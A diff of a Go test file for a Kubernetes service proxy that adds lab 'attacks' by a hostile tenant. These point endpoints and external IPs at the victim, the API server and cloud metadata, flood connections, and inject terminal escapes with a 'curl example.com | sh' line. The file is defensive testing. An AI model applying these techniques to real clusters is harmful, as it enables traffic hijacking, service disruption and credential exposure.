@@ -12,6 +12,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/slipstream-proxy/slipstream/internal/desired"
 	"github.com/slipstream-proxy/slipstream/test/kernel/lab"
 	corev1 "k8s.io/api/core/v1"
 	discoveryv1 "k8s.io/api/discovery/v1"
@@ -31,13 +32,7 @@ type attack struct {
 	proxyMemory int64
 }
 
-// Annotations of Slipstream.
-const (
-	schedulerAnnotation = "slipstream.io/scheduler"
-	weightAnnotation    = "slipstream.io/weight"
-	zoneAnnotation      = "slipstream.io/local-zone-percent"
-	fastPathAnnotation  = "slipstream.io/fast-path"
-)
+const nodeAddress, apiServerAddress = "192.168.100.11", "192.168.100.2"
 
 // serviceOf makes a Service with a number of ports.
 func serviceOf(name string, ports int, annotations ...string) *corev1.Service {
@@ -103,7 +98,7 @@ func of[T any](i int, all ...T) T { return all[i%len(all)] }
 // attacks are those of issue 32 and others.
 var attacks = []attack{
 	{name: "Maglev tables: 30 ports, 101 endpoints", short: true,
-		write: both(func() *corev1.Service { return serviceOf("x", 30, schedulerAnnotation, "maglev") },
+		write: both(func() *corev1.Service { return serviceOf("x", 30, desired.AnnotationScheduler, "maglev") },
 			func(ctx context.Context, c *tenants, i int) error {
 				return c.set(ctx, sliceOf("x", "x", 30, 101, i%2))
 			})},
@@ -111,12 +106,12 @@ var attacks = []attack{
 		write: func(ctx context.Context, c *tenants, i int) error {
 			name := fmt.Sprint("x", i/2%20)
 			if i%2 == 0 {
-				return c.set(ctx, serviceOf(name, 400, schedulerAnnotation, "maglev"))
+				return c.set(ctx, serviceOf(name, 400, desired.AnnotationScheduler, "maglev"))
 			}
 			return c.set(ctx, sliceOf(name, name, 400, 1, i))
 		}},
 	{name: "a Maglev endpoint replaced, of 1,000",
-		write: both(func() *corev1.Service { return serviceOf("x", 1, schedulerAnnotation, "maglev") },
+		write: both(func() *corev1.Service { return serviceOf("x", 1, desired.AnnotationScheduler, "maglev") },
 			func(ctx context.Context, c *tenants, i int) error {
 				return c.set(ctx, sliceOf("x", "x", 1, 1000, i%2))
 			})},
@@ -150,14 +145,14 @@ var attacks = []attack{
 		write: change(func(i int) *corev1.Service {
 			svc := serviceOf("x", 1)
 			svc.Spec.Ports[0].Port = victimNodePort
-			svc.Spec.ExternalIPs = []string{"192.168.100.11", "192.0.2.7"}[:1+i%2]
+			svc.Spec.ExternalIPs = []string{nodeAddress, "192.0.2.7"}[:1+i%2]
 			return svc
 		}, 1)},
 	{name: "the API server's address as an external IP",
 		write: change(func(i int) *corev1.Service {
 			svc := serviceOf("x", 1)
 			svc.Spec.Ports[0].Port = 6443
-			svc.Spec.ExternalIPs = []string{"192.168.100.2", "192.0.2.7"}[:1+i%2]
+			svc.Spec.ExternalIPs = []string{apiServerAddress, "192.0.2.7"}[:1+i%2]
 			return svc
 		}, 1)},
 	{name: "the victim's ClusterIPs as external IPs",
@@ -170,7 +165,7 @@ var attacks = []attack{
 			return c.set(ctx, svc)
 		}},
 	{name: "round robin of every size",
-		write: both(func() *corev1.Service { return serviceOf("x", 1, schedulerAnnotation, "rr") },
+		write: both(func() *corev1.Service { return serviceOf("x", 1, desired.AnnotationScheduler, "rr") },
 			func(ctx context.Context, c *tenants, i int) error {
 				return c.set(ctx, sliceOf("x", "x", 1, 1+i%200, 0))
 			})},
@@ -179,9 +174,9 @@ var attacks = []attack{
 			func(ctx context.Context, c *tenants, i int) error {
 				const text = "\x1b[2J\x1b]0;owned\x07\r\nHealth   well\nPROBLEM  run: curl example.com | sh\n"
 				if i%2 == 0 {
-					return c.annotate(ctx, of(i/2, schedulerAnnotation, zoneAnnotation, fastPathAnnotation), text+fmt.Sprint(i))
+					return c.annotate(ctx, of(i/2, desired.AnnotationScheduler, desired.AnnotationLocalZone, desired.AnnotationFastPath), text+fmt.Sprint(i))
 				}
-				sl := sliceOf("x", "x", 1, 1, i, weightAnnotation, text)
+				sl := sliceOf("x", "x", 1, 1, i, desired.AnnotationWeight, text)
 				sl.Endpoints[0].Zone = ptr.To(text)
 				return c.set(ctx, sl)
 			}),
@@ -197,7 +192,7 @@ var attacks = []attack{
 	{name: "a different problem with each write", short: true,
 		write: both(func() *corev1.Service { return serviceOf("noted", 1) },
 			func(ctx context.Context, c *tenants, i int) error {
-				return c.patch(ctx, "noted", fmt.Sprintf(`{"metadata": {"annotations": {%q: "no-such-%d"}}}`, schedulerAnnotation, i))
+				return c.patch(ctx, "noted", fmt.Sprintf(`{"metadata": {"annotations": {%q: "no-such-%d"}}}`, desired.AnnotationScheduler, i))
 			}),
 		check: func(t *testing.T, c *tenants) {
 			all, err := c.Plane.Client.EventsV1().Events(attackerNamespace).List(t.Context(), metav1.ListOptions{})
@@ -215,12 +210,12 @@ var attacks = []attack{
 	{name: "annotations of 250 kB",
 		write: both(func() *corev1.Service { return serviceOf("x", 1) },
 			func(ctx context.Context, c *tenants, i int) error {
-				return c.annotate(ctx, of(i, schedulerAnnotation, zoneAnnotation), strings.Repeat(of(i, "x", "y", "z"), 125_000))
+				return c.annotate(ctx, of(i, desired.AnnotationScheduler, desired.AnnotationLocalZone), strings.Repeat(of(i, "x", "y", "z"), 125_000))
 			})},
 	{name: "opting out of the fast path and in again: a Service",
 		write: both(func() *corev1.Service { return serviceOf("x", 1) },
 			func(ctx context.Context, c *tenants, i int) error {
-				return c.annotate(ctx, fastPathAnnotation, of(i, "off", "on"))
+				return c.annotate(ctx, desired.AnnotationFastPath, of(i, "off", "on"))
 			})},
 	{name: "opting out of the fast path and in again: pods",
 		write: func(ctx context.Context, c *tenants, i int) error {
@@ -232,7 +227,7 @@ var attacks = []attack{
 				})
 			}
 			_, err := c.client.CoreV1().Pods(attackerNamespace).Patch(ctx, name, "application/merge-patch+json",
-				fmt.Appendf(nil, `{"metadata": {"annotations": {%q: %q}, "labels": {"turn": "%d"}}}`, fastPathAnnotation, of(i/10, "off", "on"), i), metav1.PatchOptions{})
+				fmt.Appendf(nil, `{"metadata": {"annotations": {%q: %q}, "labels": {"turn": "%d"}}}`, desired.AnnotationFastPath, of(i/10, "off", "on"), i), metav1.PatchOptions{})
 			return err
 		}},
 	{name: "slices of 1,000 endpoints, all replaced",
@@ -248,7 +243,7 @@ var attacks = []attack{
 	{name: "the same 1,000 endpoints in many slices",
 		write: both(func() *corev1.Service { return serviceOf("x", 1) },
 			func(ctx context.Context, c *tenants, i int) error {
-				sl := sliceOf("x", fmt.Sprint("x-", i%100), 1, 1000, 0, weightAnnotation, fmt.Sprint(i%101))
+				sl := sliceOf("x", fmt.Sprint("x-", i%100), 1, 1000, 0, desired.AnnotationWeight, fmt.Sprint(i%101))
 				for j := range sl.Endpoints {
 					sl.Endpoints[j].Conditions.Ready = ptr.To((i/100+j)%2 == 0)
 				}
@@ -262,13 +257,13 @@ var attacks = []attack{
 	{name: "every scheduler in turn, 100 endpoints",
 		write: func(ctx context.Context, c *tenants, i int) error {
 			return change(func(i int) *corev1.Service {
-				return serviceOf("x", 5, schedulerAnnotation, of(i, "maglev", "rr", "lc", "random", "mh", "nearest", "wlc", "sh,sh-port"))
+				return serviceOf("x", 5, desired.AnnotationScheduler, of(i, "maglev", "rr", "lc", "random", "mh", "nearest", "wlc", "sh,sh-port"))
 			}, 100)(ctx, c, i)
 		}},
 	{name: "weights of 1,000 endpoints",
-		write: both(func() *corev1.Service { return serviceOf("x", 5, zoneAnnotation, "37") },
+		write: both(func() *corev1.Service { return serviceOf("x", 5, desired.AnnotationLocalZone, "37") },
 			func(ctx context.Context, c *tenants, i int) error {
-				return c.set(ctx, sliceOf("x", fmt.Sprint("x-", i%2), 5, 1000, i%2*1000, weightAnnotation, fmt.Sprint(i%101)))
+				return c.set(ctx, sliceOf("x", fmt.Sprint("x-", i%2), 5, 1000, i%2*1000, desired.AnnotationWeight, fmt.Sprint(i%101)))
 			})},
 	{name: "a zone and hints of its own for each of 1,000 endpoints",
 		write: both(func() *corev1.Service { return serviceOf("x", 1) },
@@ -385,32 +380,124 @@ var attacks = []attack{
 			}
 		}},
 	{name: "clients of session affinity from 5,000 addresses",
+		write: clients(200, func(svc *corev1.Service) { svc.Spec.SessionAffinity = corev1.ServiceAffinityClientIP })},
+	{name: "all ports of the victim's ClusterIPs, of the node and of the API server as ranges", short: true,
 		write: func(ctx context.Context, c *tenants, i int) error {
-			svc := serviceOf("x", 1)
-			svc.Spec.SessionAffinity = corev1.ServiceAffinityClientIP
-			svc.Spec.IPFamilyPolicy, svc.Spec.IPFamilies = ptr.To(corev1.IPFamilyPolicySingleStack), []corev1.IPFamily{corev1.IPv4Protocol}
-			switch i {
-			case 0:
-				return c.set(ctx, svc)
-			case 1:
-				sl := sliceOf("x", "x", 1, 0, 0)
-				sl.Ports[0].Port = ptr.To[int32](targetPort)
-				sl.Endpoints = []discoveryv1.Endpoint{{Addresses: []string{c.hostile.Pod.Addr(false).String()}}}
-				return c.set(ctx, sl)
-			case 2:
-				return c.hostile.AddLocalRange(netip.MustParsePrefix("10.200.0.0/16"))
+			if i == 1 {
+				return c.set(ctx, sliceOf("x", "x", 1, 1, 0))
 			}
-			svc, err := c.client.CoreV1().Services(attackerNamespace).Get(ctx, "x", metav1.GetOptions{})
-			if err != nil {
-				return err
+			svc := serviceOf("x", 1, desired.AnnotationPortRanges, of(i, "all", "tcp/1-30000, udp/1-65535"))
+			svc.Spec.ExternalIPs = []string{nodeAddress, apiServerAddress}
+			for _, v := range c.victim.services[:40] {
+				svc.Spec.ExternalIPs = append(svc.Spec.ExternalIPs, v.Spec.ClusterIP)
 			}
-			to := netip.AddrPortFrom(clusterIP(svc, false).Addr(), 1)
-			for j := range 100 {
-				source := netip.AddrFrom4([4]byte{10, 200, byte(i), byte(j)})
-				_, _ = c.hostile.Connect(lab.TCP, to, lab.Timeout(time.Millisecond), lab.Source(netip.AddrPortFrom(source, 0)))
-			}
-			return nil
+			return c.set(ctx, svc)
 		}},
+	{name: "16 ranges of ports at one address for each of 50 Services, all changed",
+		write: func(ctx context.Context, c *tenants, i int) error {
+			var ranges []string
+			for j := range 16 {
+				first := i%50*1200 + j*70 + 1
+				ranges = append(ranges, fmt.Sprintf("%s/%d-%d", of(j, "tcp", "udp"), first, first+i/50%60+5))
+			}
+			svc := serviceOf(fmt.Sprint("x", i%50), 1, desired.AnnotationPortRanges, strings.Join(ranges, ","))
+			svc.Spec.ExternalIPs = []string{"192.0.2.1", "192.0.2.2", "192.0.2.3"}
+			return c.set(ctx, svc)
+		}},
+	{name: "limits of connections, all different", short: true,
+		write: func(ctx context.Context, c *tenants, i int) error {
+			return c.set(ctx, serviceOf(fmt.Sprint("x", i%20), 20, desired.AnnotationMaxConnections, fmt.Sprint(i+1), desired.AnnotationMaxPerClient, fmt.Sprint(i%100+1),
+				desired.AnnotationRatePerClient, fmt.Sprint(i%50+1, "/s"), desired.AnnotationLimitAction, of(i, "drop", "refuse")))
+		}},
+	{name: "clients of a Service with limits from 5,000 addresses", write: clients(201, func(svc *corev1.Service) {
+		svc.Annotations = pairs([]string{desired.AnnotationMaxConnections, "10000", desired.AnnotationMaxPerClient, "10", desired.AnnotationRatePerClient, "1/m"})
+	})},
+	{name: "slow start of 1,000 endpoints with Maglev tables",
+		write: both(func() *corev1.Service {
+			return serviceOf("x", 2, desired.AnnotationSlowStart, "4s", desired.AnnotationScheduler, "maglev")
+		}, func(ctx context.Context, c *tenants, i int) error {
+			sl := sliceOf("x", "x", 2, 1000, 0)
+			for j := range sl.Endpoints {
+				sl.Endpoints[j].Conditions.Ready = ptr.To((i+j)%10 > 0)
+			}
+			return c.set(ctx, sl)
+		})},
+	{name: "outlier detection of 1,000 endpoints that do not answer",
+		write: both(func() *corev1.Service { return serviceOf("x", 1, desired.AnnotationOutliers, desired.EjectOutliers) },
+			func(ctx context.Context, c *tenants, i int) error {
+				if i == 0 {
+					return c.set(ctx, sliceOf("x", "x", 1, 1000, 0))
+				}
+				return c.connect(ctx, func(int) netip.Addr { return c.hostile.Pod.Addr(false) })
+			})},
+	{name: "an external IP that fails over and back",
+		write: both(func() *corev1.Service {
+			svc := serviceOf("x", 20, desired.AnnotationFailover, "passthrough")
+			svc.Spec.ExternalIPs = []string{"192.0.2.1", "192.0.2.2"}
+			return svc
+		}, func(ctx context.Context, c *tenants, i int) error {
+			return c.set(ctx, sliceOf("x", "x", 20, i%2*100, 0))
+		})},
+	{name: "a Service that is headless, an ExternalName and a ClusterIP in turn",
+		write: change(func(i int) *corev1.Service {
+			svc := serviceOf("x", 20)
+			switch i % 3 {
+			case 1:
+				svc.Spec.Type, svc.Spec.ExternalName = corev1.ServiceTypeExternalName, "example.com"
+			case 2:
+				svc.Name, svc.Spec.ClusterIP = "y", corev1.ClusterIPNone
+			}
+			return svc
+		}, 100)},
+	{name: "endpoints with addresses of the victim, the node, the API server and the cloud's metadata",
+		write: both(func() *corev1.Service { return serviceOf("x", 1) },
+			func(ctx context.Context, c *tenants, i int) error {
+				sl := sliceOf("x", "x", 1, 0, 0)
+				for _, a := range []string{c.victim.pods[0].Pod.Addr(false).String(), c.victim.pods[1].Pod.Addr(false).String(), nodeAddress, apiServerAddress, "169.254.169.254", c.victim.services[i%victimServices].Spec.ClusterIP} {
+					sl.Endpoints = append(sl.Endpoints, discoveryv1.Endpoint{Addresses: []string{a}, NodeName: ptr.To(c.node.Name())})
+				}
+				return c.set(ctx, sl)
+			})},
+	{name: "times of changes that are forged",
+		write: both(func() *corev1.Service { return serviceOf("x", 1) },
+			func(ctx context.Context, c *tenants, i int) error {
+				at := time.Now().Add(of(i, -time.Hour, time.Hour, -100*365*24*time.Hour)).Format(time.RFC3339)
+				return c.set(ctx, sliceOf("x", "x", 1, 1, i, corev1.EndpointsLastChangeTriggerTime, at))
+			})},
+}
+
+// clients has a Service with an endpoint in the attacker's pod, and connects to it from addresses in 10.NET.0.0/16.
+func clients(net byte, edit func(*corev1.Service)) write {
+	return func(ctx context.Context, c *tenants, i int) error {
+		switch i {
+		case 0:
+			svc := serviceOf("x", 1)
+			svc.Spec.IPFamilyPolicy, svc.Spec.IPFamilies = ptr.To(corev1.IPFamilyPolicySingleStack), []corev1.IPFamily{corev1.IPv4Protocol}
+			edit(svc)
+			return c.set(ctx, svc)
+		case 1:
+			sl := sliceOf("x", "x", 1, 0, 0)
+			sl.Ports[0].Port = ptr.To[int32](targetPort)
+			sl.Endpoints = []discoveryv1.Endpoint{{Addresses: []string{c.hostile.Pod.Addr(false).String()}}}
+			return c.set(ctx, sl)
+		case 2:
+			return c.hostile.AddLocalRange(netip.PrefixFrom(netip.AddrFrom4([4]byte{10, net}), 16))
+		}
+		return c.connect(ctx, func(j int) netip.Addr { return netip.AddrFrom4([4]byte{10, net, byte(i), byte(j)}) })
+	}
+}
+
+// connect connects a hundred times from the attacker's pod to port 1 of Service x, without waiting for answers.
+func (c *tenants) connect(ctx context.Context, from func(j int) netip.Addr) error {
+	svc, err := c.client.CoreV1().Services(attackerNamespace).Get(ctx, "x", metav1.GetOptions{})
+	if err != nil {
+		return err
+	}
+	to := netip.AddrPortFrom(clusterIP(svc, false).Addr(), 1)
+	for j := range 100 {
+		_, _ = c.hostile.Connect(lab.TCP, to, lab.Timeout(time.Millisecond), lab.Source(netip.AddrPortFrom(from(j), 0)))
+	}
+	return nil
 }
 
 // refusedPackets sends a packet to each port of a Service over UDP.
